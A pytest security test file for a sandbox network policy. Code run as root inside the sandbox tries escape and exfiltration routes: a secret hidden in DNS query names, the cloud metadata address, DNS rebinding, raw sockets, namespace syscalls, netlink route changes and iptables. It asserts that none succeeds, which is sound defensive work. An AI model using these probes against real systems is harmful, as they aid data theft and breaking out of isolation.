"""What a policy does not allow is not reached, whatever root inside does.

The programs run as root in the sandbox. What counts is what the world outside saw of it: nothing but the one server
that is allowed, by the one name. Each mechanism is switched off once, and then the same try succeeds.
"""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest

import dsec
from tests.kit.home import BASE, Home, standing
from tests.kit.netcontrol import Control
from tests.kit.world import RESOLVER, World, cannot_steer, get, policy, rule, world

pytestmark = [
    pytest.mark.security,
    pytest.mark.timeout(180),
    pytest.mark.skipif(bool(cannot_steer()), reason=cannot_steer()),
]
ALLOWED = policy(rule(domain="allowed.example", ports=[80]), rule(domain="private.example", ports=[80]))
SECRET = "5ec2e7"
# Each line that a try prints is for whoever reads a failure; the world outside is what is asserted.
HEAD = """
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, what):
    try: print(name, what())
    except Exception as e: print(name, type(e).__name__, e)  # whatever it is: the next is tried
def said(address, host, family=socket.AF_INET, port=80):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(10)
    s.connect((address, port)); s.sendall(b"GET / HTTP/1.1\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")
    return s.recv(4096)[-40:]
def datagram(address, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(data, (address, port)); return s.recv(4096)[:40]
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
def call(number, *args):
    if libc.syscall(number, *args) < 0: raise OSError(ctypes.get_errno(), errno.errorcode[ctypes.get_errno()])
    return "ok"
"""


class Ear:
    """What came by UDP, or to an abstract socket of the machine."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []

    def listen(self, server: socket.socket) -> None:
        def loop() -> None:
            with contextlib.suppress(OSError):
                while data := server.recv(65536):
                    self.heard.append(data)

        threading.Thread(target=loop, daemon=True).start()


@pytest.fixture(scope="module")
def outside() -> Iterator[World]:
    with world() as made:
        yield made


@pytest.fixture(scope="module")
def ear(outside: World) -> Ear:
    made = Ear()
    for address, port in (("20.0.1.2", 53), ("20.0.1.2", 9999), ("20.0.1.1", 443), ("20.0.1.1", 80)):
        made.listen(outside.socket(socket.AF_INET, socket.SOCK_DGRAM, (address, port)))
    return made


def node(outside: World, off: str, monkeypatch: pytest.MonkeyPatch) -> Any:
    if off:
        monkeypatch.setenv("DSEC_NATIVE_DISABLE", off)
    return standing(before=outside.before, up=("--resolver", RESOLVER))


@pytest.fixture(scope="module")
def home(outside: World) -> Iterator[Home]:
    with pytest.MonkeyPatch.context() as monkeypatch, node(outside, "", monkeypatch) as made:
        yield made


@pytest.fixture
def box(home: Home, outside: World, ear: Ear) -> Iterator[dsec.Sandbox]:
    outside.asked.clear(), outside.taken.clear(), ear.heard.clear()
    with home.client() as client, client.create(base=BASE, network=ALLOWED) as made:
        assert get(made, "allowed.example") == "this is 20.0.1.1"
        outside.taken.clear()
        yield made


def tries(sbx: dsec.Sandbox, code: str) -> str:
    result = sbx.run(["python3", "-I", "-c", HEAD + code], timeout_s=120)
    assert result.ok, (result.exit_code, result.cause, result.stdout, result.stderr)
    return result.stdout


def test_no_way_of_connecting_leads_elsewhere(box: dsec.Sandbox, outside: World, ear: Ear) -> None:
    said = tries(
        box,
        """
six = socket.AF_INET6
attempt("address", lambda: said("20.0.1.2", "other.example"))
attempt("spoofed host", lambda: said("20.0.1.2", "allowed.example"))
attempt("another name", lambda: said("20.0.1.1", "other.example"))
attempt("another port", lambda: said("20.0.1.1", "allowed.example", port=22))
attempt("mapped", lambda: said("::ffff:20.0.1.2", "allowed.example", six))
attempt("nat64", lambda: said("64:ff9b::1400:102", "allowed.example", six))
attempt("not resolved", lambda: said("2600::1", "other.example", six))
attempt("private", lambda: said("10.1.1.1", "private.example"))
attempt("rebinding", lambda: socket.getaddrinfo("private.example", 80))
attempt("metadata", lambda: said("169.254.169.254", "allowed.example"))
def fast_open():
    s = socket.socket()
    s.sendto(b"GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n", 0x20000000, ("20.0.1.2", 80)); return s.recv(99)
attempt("fast open", fast_open)
def bound():
    s = socket.socket(); s.settimeout(10); s.setsockopt(0, 19, 1); s.bind(("20.0.1.2", 0)); s.connect(("20.0.1.2", 80))
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"); return s.recv(99)
attempt("source", bound)
attempt("udp", lambda: datagram("20.0.1.2", 9999, b"x"))
attempt("quic", lambda: datagram("20.0.1.1", 443, b"x" * 1200))
attempt("udp to the allowed one", lambda: datagram("20.0.1.1", 80, b"x"))
attempt("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("20.0.1.2", 80)))
def mptcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(10); s.connect(("20.0.1.2", 80))
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"); return s.recv(99)
attempt("mptcp", mptcp)
""",
    )
    assert (outside.taken, ear.heard) == ([], []), said
    assert set(outside.asked) <= {"allowed.example", "private.example"}, said


def test_questions_carry_nothing_out(box: dsec.Sandbox, outside: World, ear: Ear) -> None:
    said = tries(
        box,
        f"""
secret = "{SECRET}"
for name in (secret + ".allowed.example", secret + ".example", secret, "allowed.example." + secret + ".org"):
    for kind in (1, 28, 16, 10, 5, 15, 255):
        attempt(name, lambda: datagram("192.0.2.1", 53, question(name, kind)))
    attempt(name, lambda: datagram("20.0.1.2", 53, question(name, 1)))
    attempt(name, lambda: datagram("20.0.0.53", 53, question(name, 1)))
def over_tcp(at):
    s = socket.create_connection((at, 53), 5); q = question(secret + ".allowed.example", 1)
    s.sendall(struct.pack(">H", len(q)) + q); return s.recv(99)
attempt("tcp", lambda: over_tcp("20.0.1.2"))
attempt("tls", lambda: socket.create_connection(("20.0.1.2", 853), 5).recv(9))
for kind in (16, 10, 255):
    attempt("kind", lambda: datagram("192.0.2.1", 53, question("allowed.example", kind) + secret.encode()))
""",
    )
    assert not [name for name in outside.asked if SECRET in name], said
    assert not [data for data in (*ear.heard, *outside.heard) if SECRET.encode() in data], said
    assert (outside.taken, ear.heard) == ([], []), said


def test_root_changes_nothing_of_the_way(box: dsec.Sandbox, outside: World, ear: Ear) -> None:
    name = f"dsec-test-{SECRET}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as abstract:
        abstract.bind(f"\0{name}")
        abstract.settimeout(0.0)
        said = tries(
            box,
            f"""
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).sendto(b"x" * 60, ("lo", 0x800)))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6))
attempt("raw6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 22)))
attempt("io_uring", lambda: call(425, 8, ctypes.create_string_buffer(256)))
attempt("bpf", lambda: call(321, 5, ctypes.create_string_buffer(256), 128))
attempt("netns", lambda: call(272, 0x40000000))
attempt("user and netns", lambda: call(272, 0x50000000))
attempt("setns", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0x40000000))
attempt("pidfd_getfd", lambda: call(438, os.pidfd_open(1), 0, 0))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", "\\0{name}"))
attempt("iptables", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).setsockopt(0, 64, b"x" * 84))
attempt("forward", lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"))
def link(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.settimeout(5)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    error = struct.unpack("=i", s.recv(4096)[16:20])[0]
    return errno.errorcode.get(-error, "ok")
attempt("address", lambda: link(20, struct.pack("=BBBBIHH", 2, 32, 0, 0, 1, 8, 2) + bytes([9, 9, 9, 9])))
attempt("no route", lambda: link(25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 4, 254, 2, 0)))
attempt("new link", lambda: link(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH4s", 8, 3, b"x0")))
attempt("listens", lambda: socket.create_server(("0.0.0.0", 81)) and said("20.0.1.2", "other.example", port=81))
attempt("held port", lambda: socket.create_server(("::", 1)))
attempt("still", lambda: said("20.0.1.2", "other.example"))
""",
        )
        with pytest.raises(BlockingIOError):
            abstract.recv(9)
    for line in said.splitlines():
        assert not line.endswith(" ok"), said
    assert (outside.taken, ear.heard) == ([], []), said
    assert get(box, "allowed.example") == "this is 20.0.1.1"


def test_no_sandbox_reaches_another(home: Home, box: dsec.Sandbox, outside: World) -> None:
    server = (
        "import socket, threading\n"
        "s = socket.create_server(('::', 8000), family=socket.AF_INET6, dualstack_ipv6=True)\n"
        "a = socket.socket(socket.AF_UNIX); a.bind('\\0there'); a.listen()\n"
        "print('ready', flush=True)\n"
        "s.accept(); print('reached', flush=True)\n"
    )
    with home.client() as client, client.create(base=BASE, network=ALLOWED) as other:
        listening = other.spawn(["python3", "-c", server])
        lines = iter(listening.stdout)
        assert next(lines) == b"ready\n"
        said = tries(
            box,
            """
for address in ("127.0.0.1", "192.0.2.1", "20.0.1.1", "10.0.0.1", "172.17.0.1"):
    attempt(address, lambda: said(address, "allowed.example", port=8000))
attempt("six", lambda: said("::1", "allowed.example", socket.AF_INET6, 8000))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0there"))
""",
        )
        assert listening.output() == b"ready\n", said
    assert outside.taken == []


def test_what_stays_open_when_everything_of_the_node_dies(home: Home, box: dsec.Sandbox, outside: World) -> None:
    """Nothing: with the process dead, connections are refused until it is told again."""
    storm = (
        "import socket, time\n"
        "end = time.time() + 3\n"
        "while time.time() < end:\n"
        " for to in ('20.0.1.2', '10.1.1.1'):\n"
        "  try:\n"
        "   s = socket.create_connection((to, 80), 5)\n"
        "   s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n'); s.recv(9)\n"
        "  except OSError: pass\n"
    )
    running = box.spawn(["python3", "-c", storm])
    killed = 0
    while running.info().state == "running":
        killed += outside_kill(home)
        time.sleep(0.2)
    assert killed > 1
    assert outside.taken == []
    deadline = time.monotonic() + 30
    while get(box, "allowed.example") != "this is 20.0.1.1":
        assert time.monotonic() < deadline


def outside_kill(home: Home) -> int:
    with contextlib.suppress(OSError, ConnectionError), Control(home.place.run_dir) as control:
        os.kill(control.pid(), signal.SIGKILL)
        return 1
    return 0


@pytest.mark.parametrize(
    ("off", "to", "host", "there"),
    [
        ("net.check", "20.0.1.1", "other.example", "this is 20.0.1.1"),
        ("net.closed", "private.example", "private.example", "this is 10.1.1.1"),
    ],
)
def test_without_its_mechanism_the_same_succeeds(
    outside: World, box: dsec.Sandbox, monkeypatch: pytest.MonkeyPatch, off: str, to: str, host: str, there: str
) -> None:
    assert get(box, to, host) in ("gaierror", "ConnectionResetError")
    with (
        node(outside, off, monkeypatch) as without,
        without.client() as client,
        client.create(base=BASE, network=ALLOWED) as open_,
    ):
        assert get(open_, "allowed.example") == "this is 20.0.1.1"
        assert get(open_, to, host) == there


def test_without_the_filter_a_question_carries_a_secret_out(
    outside: World, home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    asks = f'attempt("name", lambda: datagram("192.0.2.1", 53, question("{SECRET}.example", 1)))'
    with node(outside, "net.names", monkeypatch) as without:
        for made, leaves in ((home, False), (without, True)):
            outside.asked.clear()
            with made.client() as client, client.create(base=BASE, network=ALLOWED) as sbx:
                tries(sbx, asks)
            assert (f"{SECRET}.example" in outside.asked) is leaves
